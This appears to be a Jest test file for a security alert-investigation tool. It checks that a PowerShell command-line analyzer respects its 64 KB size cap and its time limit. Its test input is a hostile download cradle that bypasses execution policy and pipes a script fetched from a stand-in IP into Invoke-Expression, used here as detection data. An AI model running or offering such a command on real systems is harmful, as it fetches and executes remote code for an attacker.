/** Analyze within its budget: through the CommandAnalyzer (the real worker), and what the budget cut is said in the answer. */
import { WorkerCommandAnalyzer } from '../../src/adapters/analysis/worker-command-analyzer';
import type { Alert } from '../../src/domain/alert';
import { analyzeInvestigation } from '../../src/app/investigate-analyze';
import { flagshipPowerShellAlert } from '../domain/investigation/flagship';
import { investigateHarness } from './investigate-test-deps';

const MB = 1024 * 1024;

function withCommandLine(commandLine: string): Alert {
  const alert = flagshipPowerShellAlert();
  return { ...alert, what: alert.what.map((e) => (e.kind === 'process' && e.commandLine ? { ...e, commandLine } : e)) };
}

const hugeCommand = (() => {
  const head = 'powershell -ep bypass -c "Invoke-WebRequest http://203.0.113.45/a.ps1 | iex" ';
  return head + 'A'.repeat(MB - head.length);
})();

describe('Analyze within its budget', () => {
  const analyzers: WorkerCommandAnalyzer[] = [];
  afterAll(() => Promise.all(analyzers.map((a) => a.close())));
  const analyzer = (options?: ConstructorParameters<typeof WorkerCommandAnalyzer>[0]) => {
    const a = new WorkerCommandAnalyzer(options);
    analyzers.push(a);
    return a;
  };

  test('a 1 MB command line through the worker: its findings and IOCs, and "analysed the first 64 KB of 1,024 KB"', async () => {
    const h = await investigateHarness(undefined, () => undefined);
    const result = await analyzeInvestigation(withCommandLine(hugeCommand), { ...h.deps, commandAnalyzer: analyzer() });
    expect(result.answer).toContain('The command bypasses the execution policy, downloads from the internet (download cradle), runs text as code (Invoke-Expression) and runs what it downloads.');
    expect(result.answer).toContain('Analysed the first 64 KB of 1,024 KB.');
    expect(result.tables.find((t) => t.title === 'IOCs')?.rows.map((r) => r[0])).toContain('203.0.113.45');
  });

  test('the same without an analyzer (in the process): the same caps, the same note', async () => {
    const h = await investigateHarness(undefined, () => undefined);
    const result = await analyzeInvestigation(withCommandLine(hugeCommand), h.deps);
    expect(result.answer).toContain('Analysed the first 64 KB of 1,024 KB.');
  });

  test('an analysis past the time limit: stopped, and the answer says so instead of waiting', async () => {
    const h = await investigateHarness(undefined, () => undefined);
    const result = await analyzeInvestigation(withCommandLine(hugeCommand), { ...h.deps, commandAnalyzer: analyzer({ timeLimitMs: 1 }) });
    expect(result.answer).toContain('Analysis stopped after 1 ms — none.');
    expect(result.answer).toContain('No known-suspicious behaviour found in what was analysed of the command line.');
  });

  test('a command line within the budget says nothing about limits', async () => {
    const h = await investigateHarness(undefined, () => undefined);
    const result = await analyzeInvestigation(flagshipPowerShellAlert(), { ...h.deps, commandAnalyzer: analyzer() });
    expect(result.answer).toContain('bypasses the execution policy');
    expect(result.answer).not.toMatch(/analysed the first|stopped after/i);
  });
});
